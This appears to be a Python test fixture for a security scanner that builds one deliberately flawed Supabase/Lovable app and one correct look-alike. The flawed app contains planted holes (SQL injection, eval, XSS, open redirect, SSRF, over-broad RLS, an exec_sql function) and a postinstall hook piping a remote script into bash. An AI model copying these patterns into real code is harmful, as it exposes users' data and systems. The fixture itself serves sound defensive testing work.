"""Two apps written for the tests: one with a flaw for every rule, one with what looks alike and is right."""

# ruff: noqa: E501, Q000, Q003 - lines of apps, as their builders write them
import json
import random
import string

from lovable_app import REF, SERVICE, key

LETTERS = string.ascii_letters + string.digits


_choose = random.Random(1)  # the same keys in every process that runs a part of the tests


def random_key(length: int) -> str:
    """Letters and digits that no pattern of placeholders fits; a secret of nobody's."""
    return "".join(_choose.choices(LETTERS, k=length))


STRIPE = "sk_" + "live_" + random_key(32)
PRIVATE = (
    "-----BEGIN " + "PRIVATE KEY-----\n" + "\n".join(random_key(64) for _ in range(4)) + "\n-----END PRIVATE KEY-----"
)
DATABASE_PASSWORD = random_key(18)
ENV_SECRET = random_key(28)
BAKED_SECRET = random_key(30)
ADMIN_PASSWORD = "Tr0ub4dor-" + random_key(6)
DEFAULT_SECRET = "default-" + random_key(10)
CANARIES = (SERVICE, STRIPE, DATABASE_PASSWORD, ENV_SECRET, BAKED_SECRET, ADMIN_PASSWORD, DEFAULT_SECRET)
"""Values that must never be printed."""

TABLES = """
create table public.profiles (
  id uuid primary key references auth.users(id), email text, phone text, nickname text, is_admin boolean default false);
create table public.notes (id uuid primary key, user_id uuid references auth.users(id), body text);
create table public.posts (id uuid primary key, user_id uuid references auth.users(id), title text);
create table public.scores (id uuid primary key, user_id uuid references auth.users(id), points int);
create table public.letters (id uuid primary key, user_id uuid references auth.users(id), body text);
create table public.settings (id uuid primary key, org text);
create type public.app_role as enum ('admin', 'user');
create table public.user_roles (id uuid primary key, user_id uuid references auth.users(id), role public.app_role);
"""
_POLICIES = "".join(
    f"alter table public.{name} enable row level security;\n"
    for name in ("profiles", "posts", "scores", "letters", "settings", "user_roles")
)
FLAWED_SQL = (
    TABLES
    + _POLICIES
    + """
create policy "read all" on public.profiles for select using (true);
create policy "update own" on public.profiles for update using (auth.uid() = id);
create policy "anyone edits" on public.posts for update using (true);
create policy "members edit" on public.scores for delete to authenticated using (auth.uid() is not null);
create policy "anyone adds" on public.scores for insert with check (true);
create policy "own" on public.letters for update using (auth.uid() = user_id) with check (true);
create policy "by metadata" on public.settings for select
  using (((auth.jwt() -> 'user_metadata') ->> 'org') = org);
create policy "own role" on public.user_roles for insert with check (auth.uid() = user_id);
create view public.letter_list as select id, body from public.letters;
create view public.scores_public as select id, points from public.scores where points > 0;
create view public.people as select id, email from auth.users;
create function public.give_points(target uuid, points int) returns void language plpgsql security definer as
  $$ begin update public.scores set points = give_points.points where user_id = target; end $$;
create function public.raise_points(target uuid, points int) returns void language plpgsql security definer set search_path = public as
  $$ begin if extract(year from now()) is distinct from points then
  update public.scores as s set points = raise_points.points where s.user_id = target; end if; end $$;
create function public.exec_sql(query text) returns void language plpgsql security definer set search_path = public as
  $$ begin execute query; end $$;
create table public.hooks (id uuid primary key, user_id uuid references auth.users(id), webhook_url text);
alter table public.hooks enable row level security;
create policy "own hooks" on public.hooks for all using (auth.uid() = user_id);
insert into storage.buckets (id, name, public) values ('invoices', 'invoices', true), ('drops', 'drops', true);
create policy "add" on storage.objects for insert to authenticated with check (bucket_id = 'drops');
create policy "list" on storage.objects for select using (bucket_id = 'invoices');
create policy "write" on storage.objects for delete using (bucket_id = 'invoices');
"""
)
ROLES_ELSEWHERE = """
create function public.has_role(_user uuid, _role public.app_role) returns boolean language sql stable
  security definer set search_path = public as
  $$ select exists (select from public.user_roles where user_id = _user and role = _role) $$;
create policy "admins set" on public.settings for update using (public.has_role(auth.uid(), 'admin'));
"""
RIGHT_SQL = (
    TABLES
    + _POLICIES
    + """
alter table public.notes enable row level security;
create policy "own notes" on public.notes for all using (auth.uid() = user_id);
revoke update on public.profiles from authenticated, anon;
grant update (nickname) on public.profiles to authenticated;
create policy "read own" on public.profiles for select using (auth.uid() = id);
create policy "update own" on public.profiles for update using (auth.uid() = id);
create policy "posts are public" on public.posts for select using (true);
create policy "own posts" on public.posts for update using (auth.uid() = user_id) with check (auth.uid() = user_id);
create policy "own scores" on public.scores for delete to authenticated using ((select auth.uid()) = user_id);
create policy "service" on public.scores for all to service_role using (true);
create policy "own letters" on public.letters for update using (auth.uid() = user_id);
create policy "by app metadata" on public.settings for select
  using (((auth.jwt() -> 'app_metadata') ->> 'org') = org);
create table public.contact_requests (id uuid primary key, message text);
alter table public.contact_requests enable row level security;
create policy "contact form" on public.contact_requests for insert with check (true);
create table public.hospitals (id uuid primary key, name text, address text, phone text);
alter table public.hospitals enable row level security;
create policy "directory" on public.hospitals for select using (true);
create function public.has_role(_user uuid, _role public.app_role) returns boolean language sql stable
  security definer set search_path = public as
  $$ select exists (select from public.user_roles where user_id = _user and role = _role) $$;
create policy "admins give roles" on public.user_roles for insert
  with check (public.has_role(auth.uid(), 'admin'));
create view public.letter_list with (security_invoker = true) as select id, body from public.letters;
create function public.handle_new_user() returns trigger language plpgsql security definer set search_path = public as
  $$ begin insert into public.profiles (id, nickname) values (new.id, new.raw_user_meta_data ->> 'name'); return new; end $$;
create trigger on_auth_user_created after insert on auth.users for each row execute function public.handle_new_user();
create function public.give_points(target uuid, points int) returns void language plpgsql security definer
  set search_path = public as
  $$ begin if auth.uid() is distinct from target then raise 'no'; end if; update public.scores set points = 1 where user_id = target; end $$;
create function public.rebuild(target text) returns void language plpgsql set search_path = public as
  $$ begin execute format('reindex table %I', target); end $$;
create function public.close_order(target uuid) returns void language plpgsql security definer set search_path = public as
  $$ begin update public.orders_of_old set closed = true where id = target; end $$;
create function public.mark_post(target uuid) returns void language plpgsql security definer set search_path = public as
  $$ begin update public.posts set moderated_at = now() where id = target; end $$;
create function public.release_funds(target uuid, amount int) returns void language plpgsql security definer set search_path = public as
  $$ declare found record; begin select * into found from milestones_of_old where id = target; if found.done then
  update public.scores set points = amount where user_id = target; end if; end $$;
create function public.sync_scores(target uuid) returns void language plpgsql security definer set search_path = public as
  $$ begin update public.scores set points = (select count(*) from public.posts where user_id = target) where user_id = target; end $$;
create view public.letters_public as select id, left(body, 20) as beginning from public.letters;
revoke insert, update, delete on public.letters_public from anon, authenticated;
create table public.views_of_posts (post uuid primary key, views int not null default 0);
alter table public.views_of_posts enable row level security;
create function public.count_view(target uuid) returns void language plpgsql security definer set search_path = public as
  $$ begin insert into public.views_of_posts (post, views) values (target, 1)
  on conflict (post) do update set views = public.views_of_posts.views + 1; end $$;
create table public.feeds (id uuid primary key, feed_url text);
alter table public.feeds enable row level security;
create policy "admins keep feeds" on public.feeds for all using (public.has_role(auth.uid(), 'admin'));
insert into storage.buckets (id, name, public) values ('mail-pictures', 'mail-pictures', true);
insert into storage.buckets (id, name, public, file_size_limit) values ('avatars', 'avatars', true, 1000000);
create policy "avatars are seen" on storage.objects for select using (bucket_id = 'avatars');
create policy "own folder" on storage.objects for insert to authenticated
  with check (bucket_id = 'avatars' and (storage.foldername(name))[1] = auth.uid()::text);
"""
)
_SERVE = "Deno.serve(async (req) => {\n  const { url, id } = await req.json();\n"
_SUPABASE = (
    'import { createClient } from "npm:@supabase/supabase-js@2.98.0";\n'
    'const admin = createClient(Deno.env.get("SUPABASE_URL")!, Deno.env.get("SUPABASE_SERVICE_ROLE_KEY")!);\n'
)
_ASKS = (
    '  const { data: { user } } = await admin.auth.getUser(req.headers.get("Authorization")!.slice(7));\n'
    '  if (!user) return new Response("no", { status: 401 });\n'
)
_AI = (
    '  const answer = await fetch("https://ai.gateway.lovable.dev/v1/chat/completions", { method: "POST",\n'
    '    headers: { Authorization: `Bearer ${Deno.env.get("LOVABLE_API_KEY")}` } });\n'
    "  return new Response(answer.body);\n});\n"
)


def _package(**changes: object) -> str:
    base: dict[str, object] = {
        "name": "vite_react_shadcn_ts",
        "dependencies": {"@supabase/supabase-js": "^2.98.0", "react": "^18.3.1"},
        "devDependencies": {"lovable-tagger": "^1.1.13", "vite": "^5.4.19"},
    }
    return json.dumps(base | changes, indent=1)


MIGRATION = "supabase/migrations/20260101000000_0f0e0d0c-0b0a-4908-8706-050403020100.sql"
OTHER_MIGRATION = "supabase/migrations/20260102000000_1f0e0d0c-0b0a-4908-8706-050403020100.sql"
BASE: dict[str, str | None] = {
    OTHER_MIGRATION: "select 1;\n",
    "supabase/functions/ping/index.ts": None,
    "supabase/functions/_shared/say.ts": None,
    ".env": f'VITE_SUPABASE_URL="https://{REF}.supabase.co"\nVITE_SUPABASE_PUBLISHABLE_KEY="{key("anon")}"\n',
}

FLAWED: dict[str, str | None] = BASE | {
    MIGRATION: FLAWED_SQL,
    "notes.md": f"The key is {SERVICE} for now.\n",
    "server/pay.ts": f'const stripe = "{STRIPE}";\n',
    "server/key.pem": PRIVATE + "\n",
    "server/db.ts": f'export const url = "postgresql://app:{DATABASE_PASSWORD}@db.shop-data.io:5432/app";\n',
    "backend/.env": f"SESSION_SECRET={ENV_SECRET}\n",
    ".env.production": f"VITE_OPENAI_API_KEY={BAKED_SECRET}\n",
    "src/ai.ts": "export const key = import.meta.env.VITE_OPENAI_API_KEY;\n",
    "src/admin.ts": "export const drop = (id: string) => supabase.auth.admin.deleteUser(id);\n",
    "server/session.ts": f'export const secret = process.env.JWT_SECRET || "{DEFAULT_SECRET}";\n',
    "supabase/functions/erase/index.ts": _SUPABASE + _SERVE + '  await admin.from("notes").delete().eq("id", id);\n});\n',
    "supabase/functions/draw/index.ts": _SERVE + _AI,
    "supabase/functions/guide/index.ts": _SUPABASE + _SERVE + '  await admin.from("profiles").select("nickname");\n' + _AI,
    "supabase/functions/write/index.ts": _SUPABASE + _SERVE + _ASKS + _AI,
    "supabase/functions/stripe-webhook/index.ts": _SUPABASE
    + '_ = Deno.serve(async (req) => {\n  const event = await req.json();\n  if (event.type === "checkout.session.completed")\n'
    '    await admin.from("orders").update({ paid: true }).eq("id", event.id);\n});\n',
    "src/lib/gifts.functions.ts": 'import { createServerFn } from "@tanstack/react-start";\n'
    'import { supabaseAdmin } from "@/integrations/supabase/client.server";\n'
    'export const give = createServerFn({ method: "POST" }).handler(async ({ data }) =>\n'
    '  supabaseAdmin.from("gifts").insert(data));\n',
    "src/lib/preview.functions.ts": 'import { createServerFn } from "@tanstack/react-start";\n'
    "async function head(url: string) {\n  const answer = await fetch(url);\n  return answer.text();\n}\n"
    'export const preview = createServerFn({ method: "POST" }).middleware([requireSupabaseAuth]).handler(async ({ data }) => head(data.url));\n',
    "supabase/functions/send-hooks/index.ts": _SUPABASE + "Deno.serve(async (req) => {\n  const secret = Deno.env.get(\"CRON_SECRET\");\n"
    '  if (req.headers.get("x-secret") !== secret) return new Response("no", { status: 401 });\n'
    '  const { data: hooks } = await admin.from("hooks").select("id, webhook_url");\n'
    "  for (const hook of hooks ?? []) await fetch(hook.webhook_url);\n  return new Response();\n});\n",
    "server/token.ts": 'import jwt from "jsonwebtoken";\nexport const who = (token: string) => jwt.verify(token, key);\n',
    "server/routes.ts": 'import express from "express";\nconst app = express();\n'
    'app.delete("/api/items/:id", async (req, res) => {\n  await db.delete(items).where(eq(items.id, req.params.id));\n});\n',
    "base44/entities/Order.jsonc": '{ "name": "Order", "type": "object", "properties": { "total": { "type": "number" } } }\n',
    "base44/functions/wipe/entry.ts": 'import { createClientFromRequest } from "npm:@base44/sdk@0.8.39";\n'
    "Deno.serve(async (req) => {\n  const base44 = createClientFromRequest(req);\n  const { id } = await req.json();\n"
    "  await base44.asServiceRole.entities.Order.delete(id);\n});\n",
    "src/pages/Gate.tsx": f'export const open = (password: string) => password === "{ADMIN_PASSWORD}";\n',
    "src/pages/Boss.tsx": 'export const isBoss = (user: User) => user.email === "boss@potsandpans.io";\n',
    "supabase/functions/pay/index.ts": 'import Stripe from "npm:stripe@17.5.0";\n'
    "Deno.serve(async (req) => {\n  const { amount } = await req.json();\n"
    '  const user = await getUser(req);\n  await stripe.checkout.sessions.create({ line_items: [{ price_data: { unit_amount: amount } }] });\n});\n',
    "supabase/functions/whoami/index.ts": "Deno.serve((req) => {\n"
    '  const token = req.headers.get("Authorization")!;\n  const payload = JSON.parse(atob(token.split(".")[1]));\n'
    "  return new Response(payload.sub);\n});\n",
    "supabase/config.toml": f'project_id = "{REF}"\n\n[auth]\nminimum_password_length = 4\nenable_anonymous_sign_ins = true\n\n'
    "[auth.email]\nenable_confirmations = false\n\n[functions.whoami]\nverify_jwt = false\n\n[functions.draw]\nverify_jwt = false\n",
    "server/reset.ts": "export const resetToken = Math.random().toString(36).slice(2);\n",
    "server/hash.ts": 'export const hashed = createHash("md5").update(password).digest("hex");\n',
    "src/pages/Login.tsx": 'export const find = (password: string) => supabase.from("staff").select().eq("password", password);\n',
    "src/pages/Keep.tsx": 'export const keep = (token: string) => localStorage.setItem("auth_token", token);\n',
    "supabase/functions/proxy/index.ts": "Deno.serve(async (req) => {\n  const { url } = await req.json();\n  return fetch(url);\n});\n",
    "server/find.ts": "export const find = (name: string) => client.query(`select * from people where name = '${name}'`);\n",
    "supabase/functions/search/index.ts": "Deno.serve(async (req) => {\n  const { term } = await req.json();\n"
    '  return Response.json(await db.from("posts").select().or(`title.ilike.%${term}%,body.ilike.%${term}%`));\n});\n',
    "src/pages/Sum.tsx": "export const sum = (formula: string) => eval(formula);\n",
    "src/pages/Post.tsx": "export const Post = ({ post }) => <div dangerouslySetInnerHTML={{ __html: post.content }} />;\n",
    "src/pages/Back.tsx": 'const next = new URLSearchParams(location.search).get("next");\nif (next) window.location.href = next;\n',
    "src/pages/Frame.tsx": 'window.addEventListener("message", (event) => { supabase.auth.setSession(event.data.token); });\n',
    "server/cors.ts": 'app.use(cors({ origin: true, credentials: true }));\n',
    "server/tls.ts": "export const agent = new Agent({ rejectUnauthorized: false });\n",
    "supabase/functions/fail/index.ts": "Deno.serve(async (req) => {\n  try { return await run(req); } catch (error) {\n"
    "    return new Response(JSON.stringify({ message: error.message, stack: error.stack }), { status: 500 });\n  }\n});\n",
    "server/log.ts": "const secret = process.env.STRIPE_SECRET_KEY;\nconsole.log(`using ${secret}`);\n",
    "vite.config.ts": 'import { componentTagger } from "lovable-tagger";\n'
    "export default { plugins: [componentTagger()], build: { sourcemap: true } };\n",
    "package.json": _package(
        dependencies={
            "@supabase/supabase-js": "^2.98.0", "jsonwebtoken": "^8.5.1", "odd": "github:somebody/odd#main", "react": "^18.3.1",
        },
        scripts={"build": "vite build", "postinstall": "curl -fsSL https://get.example.io/x.sh | bash"},
    ),
    "backend/requirements.txt": "fastapi==0.115.0\nemergentintegrations==0.1.0\n",
    "supabase/functions/old/index.ts": 'import { z } from "https://esm.sh/zod";\nDeno.serve(() => new Response("ok"));\n',
    ".github/workflows/greet.yml": "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n"
    '      - run: echo "${{ github.event.issue.title }}"\n',
}  # fmt: skip

RIGHT: dict[str, str | None] = BASE | {
    MIGRATION: RIGHT_SQL,
    "notes.md": f"The public key is {key('anon')} and a secret looks like sk_live_xxxxxxxxxxxxxxxxxxxxxxxx.\n"
    "postgresql://user:your-password@db.example.com:5432/app\n",
    "src/keys.ts": f'export const anon = "{key("anon")}";\nexport const pk = "pk_live_{random_key(24)}";\n'
    f'export const maps = "AIza{random_key(35)}";\nexport const sb = "sb_publishable_{random_key(24)}";\n'
    f'export const css = {{ translate: `select ${{x}}` }};\nconst found = /a(b)/.exec("ab");\n',
    "docker.env.example": "JWT_SECRET=change-me\nOPENAI_API_KEY=sk-proj-your-key-here\n",
    "server/public.pem": "-----BEGIN PUBLIC KEY-----\n" + random_key(64) + "\n-----END PUBLIC KEY-----\n",
    "server/db.ts": 'export const url = "postgresql://postgres:postgres@localhost:5432/postgres";\n',
    ".env.production": f"VITE_STRIPE_PUBLISHABLE_KEY=pk_live_{random_key(24)}\nVITE_GOOGLE_MAPS_API_KEY=AIza{random_key(35)}\n",
    "src/ai.ts": "export const key = import.meta.env.VITE_STRIPE_PUBLISHABLE_KEY;\nexport const maps = import.meta.env.VITE_GOOGLE_MAPS_API_KEY;\n",
    "src/session.ts": "export const { data } = await supabase.auth.getSession();\n",
    "server/session.ts": 'export const port = process.env.PORT || "3000";\nexport const secret = process.env.JWT_SECRET;\n',
    "supabase/functions/erase/index.ts": _SUPABASE + _SERVE + _ASKS + '  await admin.from("notes").delete().eq("id", id);\n});\n',
    "supabase/functions/draw/index.ts": _SUPABASE + _SERVE + _ASKS + '  if (await used(user) > 20) throw new Error("daily_limit");\n' + _AI,
    "supabase/functions/handle-email-unsubscribe/index.ts": _SUPABASE
    + _SERVE + '  await admin.from("email_unsubscribe_tokens").update({ used: true }).eq("token", id);\n});\n',
    "supabase/functions/stripe-webhook/index.ts": _SUPABASE
    + 'Deno.serve(async (req) => {\n  const event = await stripe.webhooks.constructEventAsync(await req.text(), sig, secret);\n'
    '  if (event.type === "checkout.session.completed") await admin.from("orders").update({ paid: true }).eq("id", event.id);\n});\n',
    "src/lib/shares.functions.ts": 'import { createServerFn } from "@tanstack/react-start";\n'
    'import { supabaseAdmin } from "@/integrations/supabase/client.server";\n'
    'export const shared = createServerFn({ method: "GET" }).handler(async ({ data }) => {\n'
    '  const { data: share } = await supabaseAdmin.from("shares").select("id").eq("token", data.token).maybeSingle();\n'
    '  if (share) await supabaseAdmin.from("shares").update({ seen: true }).eq("id", share.id);\n  return share;\n});\n'
    'export const board = createServerFn({ method: "POST" }).handler(async ({ data }) => {\n'
    '  const { data: row } = await supabaseAdmin.from("boards").select("*").eq("public_slug", data.slug).maybeSingle();\n'
    '  void supabaseAdmin.rpc("touch", { board: row.id });\n  return row;\n});\n',
    "bridge/server/assets/gifts.functions-z4IKHqJ8.js": 'const a = createServerFn().handler(() => supabaseAdmin.from("x").insert({}));\n',
    "src/lib/gifts.functions.ts": 'import { createServerFn } from "@tanstack/react-start";\n'
    'import { supabaseAdmin } from "@/integrations/supabase/client.server";\n'
    'export const give = createServerFn({ method: "POST" }).middleware([requireSupabaseAuth]).handler(async ({ data }) =>\n'
    '  supabaseAdmin.from("gifts").insert(data));\n',
    "src/lib/preview.functions.ts": 'import { createServerFn } from "@tanstack/react-start";\n'
    "async function head(url: string) {\n  if (!HOSTS.has(new URL(url).hostname)) throw new Error();\n  return fetch(url);\n}\n"
    'export const preview = createServerFn({ method: "POST" }).middleware([requireSupabaseAuth]).handler(async ({ data }) => head(data.url));\n',
    "supabase/functions/read-feeds/index.ts": _SUPABASE + "Deno.serve(async (req) => {\n  const secret = Deno.env.get(\"CRON_SECRET\");\n"
    '  if (req.headers.get("x-secret") !== secret) return new Response("no", { status: 401 });\n'
    '  const { data: feeds } = await admin.from("feeds").select("id, feed_url");\n'
    "  for (const feed of feeds ?? []) await fetch(feed.feed_url);\n  return new Response();\n});\n",
    "supabase/functions/public-figures/index.ts": _SUPABASE + "Deno.serve(async () => {\n"
    '  const { count } = await admin.from("posts").select("*", { count: "exact", head: true });\n'
    '  return Response.json({ count });\n});\n',
    "supabase/functions/nearest/index.ts": _SUPABASE + "Deno.serve(async (req) => {\n"
    '  const { town } = await req.json();\n'
    '  const { data } = await admin.from("hospitals").select("name, phone").ilike("address", town);\n'
    "  return Response.json(data);\n});\n",
    "supabase/functions/rss/index.ts": _SUPABASE + "Deno.serve(async (req) => {\n"
    '  const category = new URL(req.url).searchParams.get("category");\n'
    '  let rows = admin.from("posts").select("id, title").eq("status", "published");\n'
    '  if (category) rows = rows.eq("category", category);\n  return Response.json((await rows).data);\n});\n',
    "supabase/functions/pair/index.ts": _SUPABASE + _SERVE + _ASKS
    + '  const { data: found, error } = await admin.from("posts").select("id").in("id", [id]);\n'
    '  if (error || found.length !== 1) return new Response("none", { status: 404 });\n'
    '  return Response.json(await admin.from("pairs").select().or(`a.eq.${id},b.eq.${id}`));\n});\n',
    "src/lib/export.ts": 'import * as XLSX from "xlsx";\nexport const save = (book) => XLSX.writeFile(book, "all.xlsx");\n',
    "server/routes.ts": 'import express from "express";\nconst app = express();\n'
    'app.delete("/api/items/:id", requireAuth, async (req, res) => {\n  await db.delete(items);\n});\n'
    'app.post("/api/login", async (req, res) => { await db.insert(sessions); });\n',
    "base44/entities/Order.jsonc": '{ "name": "Order", "properties": {}, "rls": { "read": { "created_by_id": "{{user.id}}" } } }\n',
    "base44/functions/wipe/entry.ts": "Deno.serve(async (req) => {\n  const base44 = createClientFromRequest(req);\n"
    "  const user = await base44.auth.me();\n  const { id } = await req.json();\n  await base44.asServiceRole.entities.Order.delete(id);\n});\n",
    "src/pages/Gate.tsx": 'export const same = (password: string, again: string) => password === again && type !== "password";\n'
    'export const kind = (shown: boolean, password: string) => (password === "" ? "text" : "password");\n',
    "supabase/functions/pay/index.ts": 'import Stripe from "npm:stripe@17.5.0";\n'
    "Deno.serve(async (req) => {\n  const { productId } = await req.json();\n"
    "  const user = await getUser(req);\n  await stripe.checkout.sessions.create({ line_items: [{ price_data: { unit_amount: PRICES[productId] } }] });\n});\n",
    "supabase/functions/whoami/index.ts": "Deno.serve(async (req) => {\n"
    '  const token = req.headers.get("Authorization")!;\n  const payload = JSON.parse(atob(token.split(".")[1]));\n'
    "  const { data } = await supabase.auth.getUser(token);\n  return new Response(data.user.id);\n});\n",
    "supabase/config.toml": f'project_id = "{REF}"\n\n[auth]\nminimum_password_length = 10\nenable_anonymous_sign_ins = true\n\n'
    "[auth.email]\nenable_confirmations = true\n",
    "src/ids.ts": "export const id = Math.random().toString(36).slice(2);\nexport const token = crypto.randomUUID();\n",
    "server/hash.ts": 'export const etag = createHash("md5").update(file).digest("hex");\nconst stored = await bcrypt.hash(password, 12);\n',
    "src/pages/Find.tsx": 'export const find = (code: string) => supabase.from("shares").select().eq("share_code", code);\n'
    'localStorage.setItem("theme", "dark");\n',
    "supabase/functions/proxy/index.ts": "Deno.serve(async (req) => {\n  const { id } = await req.json();\n"
    "  return fetch(`https://api.weather.io/v1/${id}`);\n});\n",
    "server/find.ts": 'export const find = (name: string) => client.query("select * from people where name = $1", [name]);\n'
    "export const all = () => sql`select * from people where id = ${id}`;\n"
    "export const some = () => client.query(`select * from people where id in (${placeholders})`, ids);\n",
    "supabase/functions/search/index.ts": "Deno.serve(async (req) => {\n  const { term } = await req.json();\n"
    '  return Response.json(await db.from("posts").select().or("public.eq.true,shared.eq.true").ilike("title", term));\n});\n',
    "src/components/chart.tsx": "export const Style = ({ id }) => <style dangerouslySetInnerHTML={{ __html: Object.entries(THEMES).map(css) }} />;\n"
    "export const Data = ({ data }) => <script dangerouslySetInnerHTML={{ __html: JSON.stringify(data) }} />;\n"
    "export const Post = ({ post }) => <div dangerouslySetInnerHTML={{ __html: DOMPurify.sanitize(post.content) }} />;\n",
    "src/pages/Back.tsx": 'const next = new URLSearchParams(location.search).get("next");\n'
    'if (next?.startsWith("/") && !next.startsWith("//")) window.location.href = next;\nnavigate(searchParams.get("tab"));\n',
    "src/pages/Frame.tsx": 'window.addEventListener("message", (event) => {\n  if (event.origin !== location.origin) return;\n'
    "  supabase.auth.setSession(event.data.token);\n});\n",
    "server/cors.ts": 'app.use(cors({ origin: ["https://pots.app"], credentials: true }));\n'
    'export const headers = { "Access-Control-Allow-Origin": "*" };\n',
    "supabase/functions/fail/index.ts": "Deno.serve(async (req) => {\n  try { return await run(req); } catch (error) {\n"
    '    console.error({ stack: error.stack });\n    return new Response("Something went wrong", { status: 500 });\n  }\n});\n',
    "server/log.ts": 'const secret = process.env.STRIPE_SECRET_KEY;\nconsole.log("set:", !!secret, secret?.length);\n',
    "package.json": _package(
        dependencies={"@supabase/supabase-js": "^2.98.0", "next": "^15.5.18", "xlsx": "^0.18.5", "react": "^18.3.1"},
        scripts={"build": "vite build", "postinstall": "patch-package", "prepare": "husky"},
    ),
    "backend/requirements.txt": "fastapi==0.115.0\nemergentintegrations @ file:///opt/emergentintegrations.whl\n",
    "supabase/functions/new/index.ts": 'import { z } from "https://esm.sh/zod@3.23.8";\nimport { serve } from "https://deno.land/std@0.168.0/http/server.ts";\n'
    'Deno.serve(() => new Response("ok"));\n',
    ".github/workflows/greet.yml": "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n"
    "      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo \"$TITLE ${{ github.event.issue.number }}\"\n",
    "tests/fake.test.ts": f'const token = "{key("service_role")}";\n'.replace(key("service_role"), "eyJhbGciOiJIUzI1NiJ9.eyJyb2xlIjoic2VydmljZV9yb2xlIn0.ffffffffffffffffffff"),
}  # fmt: skip
RIGHT_BY_FILES_ALONE: dict[str, str | None] = RIGHT | {"supabase/functions/nearest/index.ts": None}
"""The same without what only the schema shows to be right."""
